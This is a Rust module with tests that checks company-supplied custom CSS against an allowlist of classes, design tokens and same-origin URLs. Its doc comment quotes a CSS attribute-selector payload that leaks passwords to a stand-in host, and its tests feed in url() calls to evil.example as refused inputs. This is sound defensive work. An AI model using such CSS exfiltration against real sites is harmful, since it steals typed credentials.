//! The rules a company's custom CSS must follow (issue: "Custom CSS is limited to the design
//! tokens and a documented set of class names"), checked with `cssparser`'s tokenizer.
//!
//! Custom CSS is served from this origin as a stylesheet, so the Content-Security-Policy stays
//! as it is; what it must not do is read the page. CSS reads a page through attribute selectors
//! (`input[value^="a"] { background: url(//evil/a) }` leaks a password one letter at a time)
//! and sends what it read with `url()` to another origin. So:
//!
//! - selectors are made only of the documented class names ([`CLASSES`]), `:root`, the
//!   pseudo-classes and pseudo-elements in [`PSEUDO`], and combinators — no attribute selector,
//!   no element name, no id, no `*`;
//! - a custom property (`--name`) must be a design token of `style/tokens.css`;
//! - `url()` may name only a path on this origin (`/…`); `@import`, `@font-face` and every other
//!   at-rule but `@media` are refused, and so are `attr()`, `image-set()` and `expression()`.
//!
//! Every refusal is a sentence naming the line, for the administrator.

use cssparser::{Delimiter, Parser, Token};

/// The largest custom CSS accepted, in bytes (Entra's limit too).
pub const MAX_BYTES: usize = 25 * 1024;

/// The class names custom CSS may style (listed in `style/README.md`).
pub const CLASSES: &[&str] = &[
    "actions",
    "alert",
    "badge",
    "brand",
    "brand__logo",
    "brand__name",
    "branding-background",
    "branding-legal",
    "branding-text",
    "button",
    "button--link",
    "button--primary",
    "button--quiet",
    "button--secondary",
    "card",
    "field",
    "field__hint",
    "field__input",
    "field__label",
    "links",
    "notice",
    "site-footer",
    "site-header",
    "site-main",
    "spinner",
];

/// Pseudo-classes and pseudo-elements allowed in selectors.
pub const PSEUDO: &[&str] = &[
    "root",
    "hover",
    "focus",
    "focus-visible",
    "focus-within",
    "active",
    "disabled",
    "first-child",
    "last-child",
    "before",
    "after",
    "placeholder",
];

/// Functions that may not appear in a value.
const REFUSED_FUNCTIONS: &[&str] = &[
    "attr",
    "image-set",
    "-webkit-image-set",
    "expression",
    "src",
    "element",
];

/// The design tokens of `style/tokens.css`: the custom properties custom CSS may set.
pub fn tokens() -> Vec<&'static str> {
    include_str!("../../../style/tokens.css")
        .lines()
        .filter_map(|line| line.trim().strip_prefix("--"))
        .filter_map(|rest| rest.split(':').next())
        .collect()
}

/// Checks `css`; the error is the first rule broken, as a sentence naming its line.
pub fn check(css: &str) -> Result<(), String> {
    if css.len() > MAX_BYTES {
        return Err(format!(
            "Custom CSS may be at most {} KB.",
            MAX_BYTES / 1024
        ));
    }
    let mut parser = Parser::new(css);
    let mut checker = Checker {
        tokens: tokens(),
        problem: None,
    };
    checker.rules(&mut parser);
    match checker.problem {
        Some(problem) => Err(problem),
        None => Ok(()),
    }
}

struct Checker {
    tokens: Vec<&'static str>,
    problem: Option<String>,
}

impl Checker {
    fn refuse(&mut self, parser: &Parser<'_>, message: impl Into<String>) {
        if self.problem.is_none() {
            let line = parser.current_source_location().line + 1;
            self.problem = Some(format!("Line {line}: {}", message.into()));
        }
    }

    /// A list of rules (the sheet, or an `@media` block).
    fn rules(&mut self, parser: &mut Parser<'_>) {
        while self.problem.is_none() {
            let token = match parser.next() {
                Ok(token) => token.clone(),
                Err(_) => return,
            };
            match token {
                Token::AtKeyword(name) if name.eq_ignore_ascii_case("media") => {
                    self.media(parser);
                }
                Token::AtKeyword(name) => {
                    let message = format!(
                        "@{name} is not allowed in custom CSS (only @media is): it could load \
                         files from elsewhere or change the page beyond its design tokens."
                    );
                    self.refuse(parser, message);
                }
                first => self.rule(parser, first),
            }
        }
    }

    /// `@media …{ rules }`: a prelude of plain words and parentheses, then rules.
    fn media(&mut self, parser: &mut Parser<'_>) {
        loop {
            let token = match parser.next() {
                Ok(token) => token.clone(),
                Err(_) => return self.refuse(parser, "An @media rule has no { … } block."),
            };
            match token {
                Token::CurlyBracketBlock => {
                    let _ = parser.parse_nested_block(|inner| {
                        self.rules(inner);
                        Ok::<(), cssparser::ParseError<()>>(())
                    });
                    return;
                }
                Token::Function(_) | Token::UnquotedUrl(_) | Token::BadUrl(_) => {
                    return self.refuse(parser, "An @media condition may not call functions.");
                }
                _ => {}
            }
        }
    }

    /// A style rule whose selector starts with `first`.
    fn rule(&mut self, parser: &mut Parser<'_>, first: Token<'_>) {
        let mut token = first;
        let mut after_colon = 0;
        let mut after_dot = false;
        loop {
            match &token {
                Token::CurlyBracketBlock => break,
                Token::SquareBracketBlock => {
                    return self.refuse(
                        parser,
                        "Attribute selectors ([…]) are not allowed: they can read what is typed \
                         into inputs. Use the documented class names.",
                    );
                }
                Token::Delim('.') => after_dot = true,
                Token::Ident(name) if after_dot => {
                    if !CLASSES.contains(&name.as_ref()) {
                        let message = format!(
                            ".{name} is not one of the documented class names (see the \
                             designer section of the README)."
                        );
                        return self.refuse(parser, message);
                    }
                    after_dot = false;
                }
                Token::Colon => after_colon += 1,
                Token::Ident(name) | Token::Function(name) if after_colon > 0 => {
                    if !PSEUDO.contains(&name.to_ascii_lowercase().as_str()) {
                        return self
                            .refuse(parser, format!(":{name} is not allowed in a selector."));
                    }
                    after_colon = 0;
                }
                Token::Ident(name) => {
                    let message = format!(
                        "Element selectors such as {name} are not allowed: use the documented \
                         class names."
                    );
                    return self.refuse(parser, message);
                }
                Token::IDHash(_) | Token::Hash(_) => {
                    return self.refuse(
                        parser,
                        "Id selectors (#…) are not allowed: use the documented class names.",
                    );
                }
                Token::Delim('>' | '+' | '~') | Token::Comma | Token::WhiteSpace(_) => {}
                other => {
                    let message = format!("{other:?} cannot be part of a selector here.");
                    return self.refuse(parser, message);
                }
            }
            token = match parser.next_including_whitespace() {
                Ok(token) => token.clone(),
                Err(_) => return self.refuse(parser, "A rule has no { … } block."),
            };
        }
        let _ = parser.parse_nested_block(|inner| {
            self.declarations(inner);
            Ok::<(), cssparser::ParseError<()>>(())
        });
    }

    /// `name: value; …` inside a style rule.
    fn declarations(&mut self, parser: &mut Parser<'_>) {
        while self.problem.is_none() && !parser.is_exhausted() {
            let result = parser.parse_until_after(Delimiter::Semicolon, |inner| {
                let name = inner.expect_ident()?.to_string();
                inner.expect_colon()?;
                self.declaration(inner, &name);
                Ok::<(), cssparser::ParseError<()>>(())
            });
            if result.is_err() {
                self.refuse(
                    parser,
                    "Expected a declaration such as `color: var(--color-text);`.",
                );
            }
        }
    }

    fn declaration(&mut self, parser: &mut Parser<'_>, name: &str) {
        if let Some(token) = name.strip_prefix("--") {
            if !self.tokens.contains(&token) {
                let message =
                    format!("--{token} is not a design token (see style/README.md for the list).");
                return self.refuse(parser, message);
            }
        }
        let lower = name.to_ascii_lowercase();
        if lower == "behavior" || lower.ends_with("-binding") {
            return self.refuse(parser, format!("The property {name} is not allowed."));
        }
        self.value(parser);
    }

    /// A value, with every nested function and block.
    fn value(&mut self, parser: &mut Parser<'_>) {
        while self.problem.is_none() {
            let token = match parser.next() {
                Ok(token) => token.clone(),
                Err(_) => return,
            };
            match token {
                Token::UnquotedUrl(url) => self.url(parser, &url),
                Token::Function(name) if name.eq_ignore_ascii_case("url") => {
                    let url = parser
                        .parse_nested_block(|inner| {
                            Ok::<_, cssparser::ParseError<()>>(inner.expect_string()?.to_string())
                        })
                        .unwrap_or_default();
                    self.url(parser, &url);
                }
                Token::Function(name)
                    if REFUSED_FUNCTIONS.contains(&name.to_ascii_lowercase().as_str()) =>
                {
                    self.refuse(parser, format!("{name}() is not allowed in custom CSS."));
                }
                Token::Function(_) | Token::ParenthesisBlock | Token::SquareBracketBlock => {
                    let _ = parser.parse_nested_block(|inner| {
                        self.value(inner);
                        Ok::<(), cssparser::ParseError<()>>(())
                    });
                }
                Token::CurlyBracketBlock => {
                    self.refuse(parser, "Nested rules are not allowed inside a declaration.");
                }
                Token::BadUrl(_) | Token::BadString(_) => {
                    self.refuse(parser, "A url() or a string is not closed.");
                }
                _ => {}
            }
        }
    }

    /// `url(…)` may name only a path on this origin.
    fn url(&mut self, parser: &Parser<'_>, url: &str) {
        let same_origin = url.starts_with('/') && !url.starts_with("//") && !url.contains('\\');
        if !same_origin {
            let message = format!(
                "url({url}) is not allowed: custom CSS may only use files on this site, by a path \
                 starting with / (upload images as the background or logos)."
            );
            self.refuse(parser, message);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tokens_and_documented_classes_are_accepted() {
        let css = ":root { --color-primary: #6b2c91; --radius-md: 2px; }\n\
                   .card, .button--primary:hover { border-radius: var(--radius-md); }\n\
                   @media (prefers-color-scheme: dark) { :root { --color-bg: #111; } }\n\
                   .branding-background { background: url(/api/branding/assets/ab.png) center / cover; }\n\
                   .field__input::placeholder { color: rgb(0 0 0 / 0.5) }";
        assert_eq!(check(css), Ok(()));
        assert!(tokens().contains(&"color-primary"));
        assert!(tokens().contains(&"content-width"));
    }

    #[test]
    fn attribute_selectors_on_inputs_are_refused_with_a_clear_message() {
        let css = ".card {}\n.field__input[value^=\"a\"] { background: red; }";
        let error = check(css).expect_err("refused");
        assert!(error.starts_with("Line 2: Attribute selectors"), "{error}");
        assert!(check("input[type=password] { color: red }").is_err());
    }

    #[test]
    fn urls_to_other_origins_are_refused() {
        for css in [
            ".card { background: url(https://evil.example/a.png) }",
            ".card { background: url(\"//evil.example/a.png\") }",
            ".card { background-image: url('http://evil.example/x') }",
            ".card { background: url(data:image/png;base64,AAAA) }",
        ] {
            let error = check(css).expect_err(css);
            assert!(
                error.contains("is not allowed: custom CSS may only use files on this site"),
                "{error}"
            );
        }
    }

    #[test]
    fn at_rules_unknown_names_and_risky_functions_are_refused() {
        for (css, says) in [
            ("@import url(/x.css);", "@import is not allowed"),
            (
                "@font-face { src: url(/f.woff) }",
                "@font-face is not allowed",
            ),
            (
                ".mine { color: red }",
                ".mine is not one of the documented class names",
            ),
            ("body { color: red }", "Element selectors such as body"),
            ("#id { color: red }", "Id selectors"),
            (
                ":root { --not-a-token: 1px }",
                "--not-a-token is not a design token",
            ),
            (
                ".card::after { content: attr(data-x) }",
                "attr() is not allowed",
            ),
            (".card:has(.field) { color: red }", ":has is not allowed"),
            (".card { color: red", ""),
        ] {
            match check(css) {
                Err(error) => assert!(error.contains(says), "{css}: {error}"),
                Ok(()) => assert!(says.is_empty(), "{css} was accepted"),
            }
        }
    }

    #[test]
    fn large_sheets_are_refused() {
        let css = ":root { --color-bg: #ffffff; }\n".repeat(1000);
        assert!(check(&css).expect_err("too big").contains("at most 25 KB"));
    }
}
